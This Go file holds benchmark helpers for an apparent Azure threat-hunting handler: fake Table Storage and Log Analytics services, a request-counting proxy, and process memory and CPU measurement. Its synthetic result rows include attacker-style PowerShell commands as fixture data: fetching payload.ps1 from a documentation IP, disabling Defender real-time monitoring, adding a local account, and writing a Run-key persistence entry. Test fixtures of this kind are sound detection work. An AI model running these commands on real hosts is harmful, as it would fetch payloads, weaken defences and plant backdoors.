package bench

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"

	"github.com/huntwatch/huntwatch/handler/hunt"
	"github.com/huntwatch/huntwatch/handler/hunt/memstore"
	"github.com/huntwatch/huntwatch/handler/internal/azurite"
	"github.com/huntwatch/huntwatch/handler/internal/e2e"
	"github.com/huntwatch/huntwatch/handler/internal/fakeazure"
	"github.com/huntwatch/huntwatch/handler/internal/fakeslack"
	"github.com/huntwatch/huntwatch/handler/loganalytics"
	"github.com/huntwatch/huntwatch/handler/tablestore"
)

// ---- the world outside the handler ----------------------------------------------------------

// repoRoot is the module root: tests run in handler/bench.
const repoRoot = "../.."

// world is the end-to-end world (handler/internal/e2e) with two Table Storage services, each
// behind a counting proxy: Azurite (in memory) and the fake Table service of fakeazure, for the
// sizes Azurite cannot carry (each of its writes scans the partition: see fakeazure.Tables).
type world struct {
	*e2e.World
	az, fake *backend
	hunt     *hunt.Hunt
}

// backend is a Table Storage service and the counting proxy in front of it.
type backend struct {
	name          string // azurite, fake
	account, key  string
	addr, direct  string // the service's host:port, and a connection string straight to it
	proxy         *counter
	fakeTables    *fakeazure.Tables // the fake's, for its row counts
	parallelLabel string            // how many transactions the handler runs at once against it
}

func newWorld(b *testing.B) *world {
	b.Helper()
	h, err := hunt.Load("runcommand-mde") // the hunt of the World's settings
	if err != nil {
		b.Fatal(err)
	}
	w := &world{World: e2e.NewWorld(b), hunt: h}
	// The World's Azurite keeps its data on disk, saving all of it every 5 s; the benchmarks use
	// one of their own in memory (the settings name it: later entries win).
	az := azurite.Start(b, azurite.InMemory())
	w.az = &backend{name: "azurite", account: azurite.Account, key: azurite.Key, addr: az.Addr(), direct: az.ConnectionString(),
		parallelLabel: "1 transaction at a time (Azurite's account)"}
	ft := fakeazure.NewTables(b)
	w.fake = &backend{name: "fake", account: fakeazure.TablesAccount, key: fakeazure.TablesKey, addr: ft.Addr(), direct: ft.ConnectionString(),
		fakeTables: ft, parallelLabel: "8 transactions at once (as against Azure)"}
	for _, bk := range []*backend{w.az, w.fake} {
		bk.proxy = newCounter(b, bk.addr)
	}
	return w
}

// backend is the Table Storage service called name: azurite or fake.
func (w *world) backend(name string) *backend {
	if name == "fake" {
		return w.fake
	}
	return w.az
}

// lastAnswer is the size of the Log Analytics fake's last answer, in bytes.
func (w *world) lastAnswer(b *testing.B) int64 {
	reqs := w.LA.Requests()
	if len(reqs) == 0 {
		b.Fatal("no query was answered")
	}
	return reqs[len(reqs)-1].Bytes
}

// conn is a connection string through the counting proxy (proxied) or straight to the service.
func (bk *backend) conn(proxied bool) string {
	if !proxied {
		return bk.direct
	}
	return fmt.Sprintf("DefaultEndpointsProtocol=http;AccountName=%s;AccountKey=%s;TableEndpoint=http://%s/%s;",
		bk.account, bk.key, bk.proxy.addr, bk.account)
}

// settings are what the handler's environment adds to the World's: the dedup table on bk, through
// the counting proxy, quieter logs, and extra.
func (w *world) settings(bk *backend, table string, extra ...string) []string {
	env := append([]string{"DEDUP_TABLE_CONNECTION=" + bk.conn(true), "DEDUP_TABLE_NAME=" + table, "LOG_LEVEL=warn"}, extra...)
	// Diagnosis: BENCH_CHILD_ENV="GODEBUG=gctrace=1" passes settings to the handler, and
	// BENCH_CHILD_OUTPUT=FILE appends each handler's output to FILE when it stops.
	if extra := os.Getenv("BENCH_CHILD_ENV"); extra != "" {
		env = append(env, strings.Fields(extra)...)
	}
	return env
}

// start runs "huntwatch serve args..." on table of bk, as the host does, with env added.
func (w *world) start(b *testing.B, bk *backend, table string, env []string, args ...string) *e2e.Process {
	b.Helper()
	return w.StartArgs(b, args, w.settings(bk, table, env...)...)
}

func (bk *backend) deleteTable(b *testing.B, table string) {
	svc, err := aztables.NewServiceClientFromConnectionString(bk.conn(false), nil)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := svc.DeleteTable(context.Background(), table, nil); err != nil {
		b.Logf("delete table %s: %v", table, err)
	}
}

// ---- query results --------------------------------------------------------------------------

// answer is n rows of the bundled hunt from row first on, generated as the fake writes them (the
// answer is never held whole): row (about 900 bytes of JSON: 10,000 rows make a 9 MB answer, as
// in the issue) or smallRow (about 210 bytes: 500,000 rows make Log Analytics' largest answer,
// about 100 MB).
func answer(n, first int, base time.Time, row func(i int, base time.Time) []any) fakeazure.Table {
	return fakeazure.Table{Columns: e2e.Columns, Stream: func(yield func([]any) bool) {
		for i := first; i < first+n; i++ {
			if !yield(row(i, base)) {
				return
			}
		}
	}}
}

const sub = "0b1f6471-1bf0-4dda-aec3-cb9272f09590"

// row is result row i of the bundled hunt: its own fingerprint and occurrence, about 900 bytes.
func row(i int, base time.Time) []any {
	vm := fmt.Sprintf("vm-%05d", i)
	cmds, _ := json.Marshal([]string{
		"Get-Process | Where-Object { $_.CPU -gt 100 } | Select-Object -First 10",
		"Invoke-WebRequest -Uri http://203.0.113." + strconv.Itoa(i%250) + "/payload.ps1 -OutFile C:\\Temp\\p.ps1",
		"Set-MpPreference -DisableRealtimeMonitoring $true",
		"net user svc-backup P@ssw0rd! /add",
		"reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\Temp\\p.exe",
		fmt.Sprintf("whoami /all # run %d", i),
		"Get-WinEvent -LogName Security -MaxEvents 50 | Where-Object { $_.Id -in 4624,4625,4672 } | Export-Csv C:\\Temp\\events.csv -NoTypeInformation",
	})
	sum := sha256.Sum256([]byte(fmt.Sprintf("script-%d", i)))
	return []any{
		base.Add(-time.Duration(i%7200) * time.Second).Format(time.RFC3339Nano),
		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
		fmt.Sprintf("operator%04d@contoso.com", i%5000),
		fmt.Sprintf("203.0.113.%d", i%250),
		sub, vm,
		"/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + vm,
		fmt.Sprintf("script%d.ps1", i%100), 812 + i%1000, string(cmds), hex.EncodeToString(sum[:]),
		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i), // RunId: the CorrelationId of a run on one VM
	}
}

// smallRow is result row i with the same columns in about 210 bytes: no subscription, resource
// id or script file, one command, a 32-digit fingerprint.
func smallRow(i int, base time.Time) []any {
	sum := sha256.Sum256([]byte(fmt.Sprintf("script-%d", i)))
	return []any{
		base.Add(-time.Duration(i%7200) * time.Second).Truncate(time.Second).Format(time.RFC3339),
		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
		fmt.Sprintf("op%d@contoso.com", i%5000),
		fmt.Sprintf("203.0.113.%d", i%250),
		nil, fmt.Sprintf("vm-%06d", i%1_000_000), nil, nil, 812 + i%100, `["whoami"]`, hex.EncodeToString(sum[:16]),
		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
	}
}

// seedKnown makes every row of the fake's answer (n rows) a known, delivered fingerprint in table
// of bk, as the pipeline stores it, with the status of that run: the steady state, in which every
// row of the window is already known.
func (w *world) seedKnown(b *testing.B, bk *backend, table string, n int) {
	b.Helper()
	w.seed(b, bk, table, n, time.Now(), true)
}

// seed stores the fake's answer (n rows) as delivered records, exactly as the pipeline stores
// them: one in-process run at now (the real source, the real Runner, posts answered at once)
// into an in-memory store, then its records copied to table in transactions (tablestore.Put,
// 100 records each), with the run's status when status is set.
func (w *world) seed(b *testing.B, bk *backend, table string, n int, now time.Time, status bool) {
	b.Helper()
	ctx := context.Background()
	mem := memstore.New()
	r := &hunt.Runner{Log: slog.New(slog.DiscardHandler), Source: w.source(b), Store: mem, Notifier: &nopNotifier{},
		Now: func() time.Time { return now }, Lookback: 24 * time.Hour, MaxCatchup: 168 * time.Hour, MaxPosts: n + 1, MaxRows: n}
	if sum, err := r.Run(ctx, w.hunt); err != nil || sum.Posted != n {
		b.Fatalf("seed run: %v: %s", err, sum)
	}
	store, err := tablestore.FromConnectionString(nil, bk.conn(false), table, nil)
	if err != nil {
		b.Fatal(err)
	}
	st, err := mem.Load(ctx, w.hunt.ID)
	if err != nil {
		b.Fatal(err)
	}
	recs := make([]*hunt.Record, 0, len(st.Records))
	for fp := range st.Records { // delivered records load sparse: copy each whole
		rec, err := mem.Get(ctx, w.hunt.ID, fp)
		if err != nil || rec == nil {
			b.Fatalf("seed: get %s: %v, %v", fp, rec, err)
		}
		rec.Version = ""
		recs = append(recs, rec)
	}
	if lost, err := store.Put(ctx, w.hunt.ID, recs); err != nil || len(lost) > 0 {
		b.Fatalf("seed: %d lost, %v", len(lost), err)
	}
	if status {
		if err := store.SaveStatus(ctx, w.hunt.ID, st.Status); err != nil {
			b.Fatal(err)
		}
	}
}

// source is the Log Analytics source main wires, in this process, through the managed identity.
func (w *world) source(b *testing.B) *loganalytics.Source {
	for k, v := range w.Identity.Env() {
		os.Setenv(k, v)
	}
	cred, err := azidentity.NewManagedIdentityCredential(&azidentity.ManagedIdentityCredentialOptions{ID: azidentity.ClientID("bench")})
	if err != nil {
		b.Fatal(err)
	}
	src, err := loganalytics.New(e2e.Workspace, w.LA.Endpoint(), cred, loganalytics.Options{Transport: w.LA.Client()})
	if err != nil {
		b.Fatal(err)
	}
	return src
}

// nopNotifier accepts every post at once. Methods it lacks are never called by the runs it is
// used in (no digest threshold, no repeats).
type nopNotifier struct {
	hunt.Notifier
	mu  sync.Mutex
	seq int
}

func (n *nopNotifier) Notify(context.Context, *hunt.Hunt, *hunt.Record, []*hunt.Finding) (hunt.MessageRef, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.seq++
	return hunt.MessageRef{Where: fakeslack.DefaultChannel, ID: fmt.Sprintf("1700000000.%06d", n.seq)}, nil
}

func (n *nopNotifier) Alert(context.Context, *hunt.Hunt, hunt.Alert) error { return nil }

// ---- Table Storage round trips --------------------------------------------------------------

// counter is a reverse proxy on loopback in front of Azurite that counts the requests it passes.
type counter struct {
	addr string
	mu   sync.Mutex
	reqs []*tsReq
}

type tsReq struct {
	kind string // list, batch, entity (one-entity write or read), table, other
	ops  int    // operations in a batch
	pks  int    // distinct partition keys in a batch
	dur  time.Duration
}

// batchOp ends the request line of each operation in a $batch body.
var batchOp = []byte(" HTTP/1.1\r\n")

// countPKs counts the distinct "PartitionKey":"..." values of a $batch body (aztables writes
// them without spaces and escapes no quote in them).
func countPKs(body []byte) int {
	pks := map[string]bool{}
	prop := []byte(`"PartitionKey":"`)
	for {
		i := bytes.Index(body, prop)
		if i < 0 {
			return len(pks)
		}
		body = body[i+len(prop):]
		j := bytes.IndexByte(body, '"')
		if j < 0 {
			return len(pks)
		}
		pks[string(body[:j])] = true
	}
}

func newCounter(b *testing.B, target string) *counter {
	c := &counter{}
	rp := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: target})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	c.addr = l.Addr().String()
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t0 := time.Now()
		q := c.count(r)
		rp.ServeHTTP(w, r)
		c.mu.Lock()
		q.dur = time.Since(t0)
		c.mu.Unlock()
	})}
	go srv.Serve(l)
	b.Cleanup(func() { srv.Close() })
	return c
}

func (c *counter) count(r *http.Request) *tsReq {
	q := &tsReq{kind: "other"}
	path := r.URL.Path
	switch {
	case strings.HasSuffix(path, "/$batch"):
		body, _ := io.ReadAll(r.Body)
		r.Body = io.NopCloser(bytes.NewReader(body))
		q.kind, q.ops, q.pks = "batch", bytes.Count(body, batchOp), countPKs(body)
	case strings.HasSuffix(path, "/Tables") || strings.Contains(path, "/Tables("):
		q.kind = "table"
	case r.Method == http.MethodGet && (strings.HasSuffix(path, "()") || r.URL.Query().Has("$filter")):
		q.kind = "list"
	default:
		q.kind = "entity"
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.reqs = append(c.reqs, q)
	return q
}

// take returns the requests counted since the last take.
func (c *counter) take() trips {
	c.mu.Lock()
	defer c.mu.Unlock()
	t := trips{}
	for _, r := range c.reqs {
		t.total++
		t.wait += r.dur
		switch r.kind {
		case "list":
			t.list++
		case "batch":
			t.batch++
			t.ops += r.ops
			t.maxOps = max(t.maxOps, r.ops)
			t.maxPKs = max(t.maxPKs, r.pks)
		case "entity":
			t.entity++
		default:
			t.other++
		}
	}
	c.reqs = nil
	return t
}

type trips struct {
	total, list, batch, entity, other int
	ops, maxOps, maxPKs               int
	wait                              time.Duration // summed request times
}

func (t trips) String() string {
	s := fmt.Sprintf("%d in %s (%d list", t.total, ms(t.wait), t.list)
	if t.batch > 0 {
		s += fmt.Sprintf(", %d batch of ≤%d ops", t.batch, t.maxOps)
	}
	if t.entity > 0 {
		s += fmt.Sprintf(", %d single-entity", t.entity)
	}
	if t.other > 0 {
		s += fmt.Sprintf(", %d create table", t.other)
	}
	return s + ")"
}

// ---- processes ------------------------------------------------------------------------------

// invoke runs one timer invocation, wants 200, and returns the time to the answer and its summary line.
func invoke(b testing.TB, p *e2e.Process) (time.Duration, string) {
	b.Helper()
	res := p.Invoke(b)
	if res.Status != http.StatusOK {
		b.Fatalf("invoke: %s\n%s%s", res, p.Stdout, p.Stderr)
	}
	return res.Took, strings.Join(res.Logs, " ")
}

// stop returns the process's peak RSS in bytes, then sends it SIGTERM by pid and waits.
//
// The peak is VmHWM from /proc/<pid>/status, read while the process still lives. The child's
// rusage Maxrss is no use here: Go starts children with vfork, and Linux folds the high-water
// mark of the address space exec replaces, the parent's (this test, with its fakes), into it.
func stop(b testing.TB, p *e2e.Process) int64 {
	b.Helper()
	peak := vmHWM(b, p.Cmd.Process.Pid)
	p.Cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-p.Done():
	case <-time.After(30 * time.Second):
		b.Fatalf("no exit within 30 s of SIGTERM:\n%s%s", p.Stdout, p.Stderr)
	}
	if name := os.Getenv("BENCH_CHILD_OUTPUT"); name != "" {
		if f, err := os.OpenFile(name, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644); err == nil {
			fmt.Fprintf(f, "==== %s %s\n%s%s", b.Name(), p.Cmd.Path, p.Stdout, p.Stderr)
			f.Close()
		}
	}
	return peak
}

// cpuTime is the CPU time (user and system) the process has used so far.
func cpuTime(b testing.TB, p *e2e.Process) time.Duration {
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p.Cmd.Process.Pid))
	if err != nil {
		b.Fatalf("CPU time: %v", err)
	}
	// Fields after the command name (which may hold spaces, within parentheses): utime and
	// stime are the 12th and 13th, in clock ticks (100 a second on Linux).
	_, rest, _ := bytes.Cut(stat, []byte(") "))
	f := strings.Fields(string(rest))
	if len(f) < 13 {
		b.Fatalf("CPU time: /proc/%d/stat: %q", p.Cmd.Process.Pid, stat)
	}
	u, _ := strconv.ParseInt(f[11], 10, 64)
	k, _ := strconv.ParseInt(f[12], 10, 64)
	return time.Duration(u+k) * 10 * time.Millisecond
}

func vmHWM(b testing.TB, pid int) int64 {
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		b.Fatalf("peak RSS: %v", err)
	}
	for _, line := range strings.Split(string(status), "\n") {
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			if err != nil {
				b.Fatalf("peak RSS: %q: %v", line, err)
			}
			return kb << 10
		}
	}
	b.Fatalf("peak RSS: no VmHWM in /proc/%d/status", pid)
	return 0
}

// summaryCount reads "<n> <what>" from a run summary ("12 new", "50 posted", ...).
func summaryCount(b testing.TB, summary, what string) int {
	m := regexp.MustCompile(`(\d+) ` + what + `\b`).FindStringSubmatch(summary)
	if m == nil {
		b.Fatalf("summary %q has no %q", summary, what)
	}
	n, _ := strconv.Atoi(m[1])
	return n
}

// ---- statistics -----------------------------------------------------------------------------

func median[T int64 | float64 | time.Duration | int](xs []T) T {
	s := slices.Clone(xs)
	slices.Sort(s)
	n := len(s)
	if n == 0 {
		return 0
	}
	if n%2 == 1 {
		return s[n/2]
	}
	return (s[n/2-1] + s[n/2]) / 2
}

func ms(d time.Duration) string {
	switch {
	case d >= 10*time.Second:
		return fmt.Sprintf("%.1f s", d.Seconds())
	case d >= 100*time.Millisecond:
		return fmt.Sprintf("%.0f ms", float64(d)/1e6)
	default:
		return fmt.Sprintf("%.1f ms", float64(d)/1e6)
	}
}

func mb(n int64) string { return fmt.Sprintf("%.1f MB", float64(n)/(1<<20)) }
